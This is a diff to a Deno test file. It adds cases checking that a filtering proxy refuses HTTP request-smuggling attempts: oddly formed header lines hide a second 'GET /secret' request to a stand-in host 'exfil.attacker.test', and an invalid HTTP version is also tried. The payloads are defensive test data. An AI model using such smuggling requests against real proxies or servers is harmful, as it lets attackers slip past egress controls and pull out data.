@@ -856,6 +856,22 @@ Deno.test("startProxy() refuses in a tunnel what a server could read as a reques
       "GET http://api.example.test/ HTTP/1.1\r\nX: a\rHost: exfil.attacker.test\r\n\r\n",
     );
     assert.match(absolute, /^HTTP\/1\.1 400/);
+    // A line a server does not take for a field ends its head: the body, a second request, was
+    // then read as one (Python's http.server).
+    const smuggled = "GET /secret HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n";
+    for (const odd of ["Foo Bar: x", " folded: x", "Foo : x"]) {
+      const head = `Host: api.example.test\r\n${odd}\r\nContent-Length: ${smuggled.length}` +
+        `\r\n\r\n${smuggled}`;
+      assert.match(
+        await rawExchange(port, `POST http://api.example.test/ HTTP/1.1\r\n${head}`),
+        /^HTTP\/1\.1 400/,
+      );
+      await throughTunnel(port, "api.example.test:80", text(`POST / HTTP/1.1\r\n${head}`));
+    }
+    assert.match(
+      await rawExchange(port, "GET http://api.example.test/ HTTP/9.9\r\n\r\n"),
+      /^HTTP\/1\.1 400/,
+    );
     await new Promise((r) => setTimeout(r, 100));
     assert.deepEqual(seen, []);
     assert.equal(proxy.log.filter((entry) => entry.allowed).length, 0);
@@ -871,6 +887,11 @@ Deno.test("startProxy() refuses in a tunnel what a server could read as a reques
     await new Promise((r) => setTimeout(r, 100));
     assert.equal(seen.length, 1);
     assert.doesNotMatch(seen[0]!, /exfil/);
+    // Framed in the proxy's own words, first: the host, the end of the connection, the length.
+    assert.match(
+      seen[0]!,
+      /^GET \/ HTTP\/1\.1\r\nHost: api\.example\.test\r\nConnection: close\r\n/,
+    );
   } finally {
     await proxy.close();
     upstream.close();
